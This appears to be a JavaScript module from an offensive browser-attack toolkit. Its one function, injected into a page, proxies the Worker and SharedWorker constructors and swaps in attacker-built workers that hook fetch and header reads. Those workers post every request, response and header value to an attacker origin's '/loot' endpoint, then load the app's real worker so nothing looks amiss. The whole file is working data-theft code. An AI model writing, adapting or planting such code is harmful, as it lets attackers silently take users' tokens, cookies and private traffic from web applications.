// Other workers in the place of the app's own. Each function runs in the page and stands alone.

/**
 * Wraps the constructors of workers: what the app starts is a worker of the attacker's, which loads the app's holder when it
 * stands in the way of all that passes.
 */
export function replaceWorkers(evil) {
  const taps = (origin) => {
    const original = fetch;
    const tell = (text) => void original(`${origin}/loot`, { method: "POST", mode: "no-cors", body: text });
    globalThis.fetch = async (...given) => {
      const request = new Request(...given);
      tell(`${request.url} ${JSON.stringify([...request.headers])} ${await request.clone().text()}`);
      const answer = await original(request);
      tell(await answer.clone().text());
      return answer;
    };
    const { get } = Headers.prototype;
    Headers.prototype.get = function (name) {
      const value = get.call(this, name);
      tell(`${name}: ${value}`);
      return value;
    };
  };
  const scriptFor = (url) => `
    // What comes meanwhile is handed on when the app's own file has said who listens.
    const early = [];
    const name = "onconnect" in globalThis ? "onconnect" : "onmessage";
    globalThis[name] = (event) => early.push(event);
    (${taps})(${JSON.stringify(evil.origin)});
    import(${JSON.stringify(new URL(url, location.href).href)}).then(() => early.forEach((event) => globalThis[name](event)));`;
  const place = (url) => URL.createObjectURL(new Blob([scriptFor(url)], { type: "text/javascript" }));
  for (const name of ["Worker", "SharedWorker"]) {
    const Original = globalThis[name];
    globalThis[name] = new Proxy(Original, {
      construct(_, [url, options]) {
        evil.post(`started instead of ${url}`);
        return new Original(place(String(url)), options);
      },
    });
  }
}
